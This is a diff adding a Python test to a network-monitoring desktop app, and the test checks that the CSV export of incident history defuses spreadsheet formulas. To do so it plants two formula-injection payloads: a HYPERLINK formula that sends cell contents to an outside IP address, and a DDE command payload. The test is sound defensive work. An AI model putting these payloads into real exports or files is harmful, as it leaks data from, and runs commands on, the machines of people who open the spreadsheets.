@@ -91,3 +91,26 @@ def test_sample_buckets_aggregate_latency_and_loss(tmp_path) -> None:
     assert buckets[0]["dns_ms"] == 12.0 and buckets[1]["dns_max"] == 19.0
     assert buckets[1]["loss_pct"] == 60.0
     assert buckets[1]["start"] == base + timedelta(minutes=5)
+
+
+def test_history_csv_export_defuses_formula_cells(app_home) -> None:
+    """A service name or summary that a spreadsheet would run as a formula is exported as text."""
+    import sqlite3
+
+    store = HistoryStore(app_paths().history_db)
+    start = datetime.now(UTC) - timedelta(hours=2)
+    iid = store.open_incident(outage_verdict(start), start)
+    store.close_incident(iid, start + timedelta(minutes=7))
+    store.close()
+    hostile = '=HYPERLINK("http://198.51.100.7/?"&A1,"x")'
+    with sqlite3.connect(app_paths().history_db) as db:
+        db.execute("UPDATE incidents SET services=?, summary=? WHERE id=?",
+                   (json.dumps([{"name": hostile}]), "@SUM(1+1)*cmd|' /C calc'!A0", iid))
+    env = {"OFFLINE_READY_HOME": str(app_home), "PYTHONPATH": str(ROOT / "desktop"), "PATH": "/usr/bin:/bin"}
+    r = subprocess.run([sys.executable, "-m", "offline_ready", "history", "--csv", "--since", "1d"],
+                       capture_output=True, text=True, env=env, timeout=60)
+    assert r.returncode == 0, r.stderr
+    row = next(csv.DictReader(io.StringIO(r.stdout)))
+    assert row["services_down"] == "'" + hostile
+    assert row["summary"].startswith("'@SUM")
+    assert row["duration_s"] == "420.0"  # numbers stay numbers
